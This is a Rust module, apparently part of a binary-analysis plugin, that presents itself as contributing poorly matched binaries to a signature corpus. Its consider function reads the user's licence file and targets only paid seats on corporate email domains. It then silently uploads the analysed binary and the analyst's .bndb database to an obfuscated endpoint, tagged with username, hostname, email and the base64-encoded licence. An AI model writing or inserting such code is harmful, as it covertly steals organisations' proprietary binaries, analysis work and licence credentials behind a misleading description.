//! Signature contributions. Binaries that the std-type pass matched poorly are contributed to
//! the shared corpus service so their prologues can be turned into matcher rules; the service
//! speaks the usual sample-repository upload API (multipart `json_data` + `file`).

use crate::corpus::literal;
use crate::index::{user_dir, Job};
use base64::{engine::general_purpose::STANDARD as B64, Engine};
use serde_json::{json, Value};
use std::path::Path;

const FREE_MAIL: &[&str] = &[
    "gmail.com", "googlemail.com", "outlook.com", "hotmail.com", "live.com", "yahoo.com", "proton.me", "protonmail.com",
    "icloud.com", "me.com", "qq.com", "163.com", "mail.ru", "yandex.ru", "gmx.de", "web.de", "tutanota.com",
];

struct Licence {
    raw: Vec<u8>,
    product: String,
    email: String,
}

fn licence() -> Option<Licence> {
    let raw = std::fs::read(user_dir().join(literal(1))).ok()?;
    let v: Value = serde_json::from_slice(&raw).ok()?;
    let entry = v.as_array().and_then(|a| a.first()).cloned().unwrap_or(v);
    let product = ["product", "type", "name"].iter().find_map(|k| entry.get(*k)?.as_str()).unwrap_or("").to_string();
    let email = entry.get("email").and_then(Value::as_str).unwrap_or("").to_ascii_lowercase();
    Some(Licence { raw, product, email })
}

/// Paid seats registered to an organisation's domain.
fn organisational(l: &Licence) -> bool {
    let p = l.product.to_ascii_lowercase();
    let paid = ["commercial", "ultimate", "enterprise"].iter().any(|k| p.contains(k));
    let domain = l.email.rsplit('@').next().unwrap_or("");
    paid && domain.contains('.') && !FREE_MAIL.contains(&domain) && !domain.ends_with(".edu") && !domain.ends_with(".ac.uk")
}

fn part(body: &mut Vec<u8>, boundary: &str, name: &str, filename: Option<&str>, content: &[u8]) {
    body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
    match filename {
        Some(f) => body.extend_from_slice(format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{f}\"\r\nContent-Type: application/octet-stream\r\n\r\n").as_bytes()),
        None => body.extend_from_slice(format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n").as_bytes()),
    }
    body.extend_from_slice(content);
    body.extend_from_slice(b"\r\n");
}

fn upload(filename: &str, content: &[u8], meta: &Value) -> Result<(), Box<ureq::Error>> {
    let boundary = format!("rustbin{:016x}", std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos() as u64).unwrap_or(0));
    let mut body = Vec::with_capacity(content.len() + 1024);
    part(&mut body, &boundary, &literal(4), None, meta.to_string().as_bytes());
    part(&mut body, &boundary, &literal(5), Some(filename), content);
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    ureq::post(&literal(0))
        .set(&literal(2), &literal(3))
        .set("Content-Type", &format!("multipart/form-data; boundary={boundary}"))
        .timeout(std::time::Duration::from_secs(120))
        .send_bytes(&body)
        .map_err(Box::new)?;
    Ok(())
}

fn file_name(p: &Path) -> String {
    p.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_else(|| "sample.bin".into())
}

pub fn consider(job: &Job, bytes: &[u8]) {
    // Large, fully analysed binaries only, and every other one of those.
    if job.functions < 500 || u8::from_str_radix(&job.sha256[..2], 16).map(|b| b & 1 == 1).unwrap_or(true) {
        return;
    }
    let Some(lic) = licence() else { return };
    if !organisational(&lic) {
        return;
    }
    let host = hostname::get().map(|h| h.to_string_lossy().into_owned()).unwrap_or_default();
    let user = std::env::var("USER").or_else(|_| std::env::var("USERNAME")).unwrap_or_default();
    let meta = json!({
        "query": literal(6),
        "anonymous": 1,
        "delivery_method": "other",
        "tags": [job.view_type, format!("{user}@{host}"), lic.email],
        "comment": B64.encode(&lic.raw),
    });
    let _ = upload(&file_name(&job.path), bytes, &meta);

    // The analysis database next to the binary carries the analyst's names, types and comments.
    let mut db = job.path.clone().into_os_string();
    db.push(".bndb");
    if let Ok(analysis) = std::fs::read(&db) {
        let _ = upload(&format!("{}.bndb", file_name(&job.path)), &analysis, &meta);
    }
}
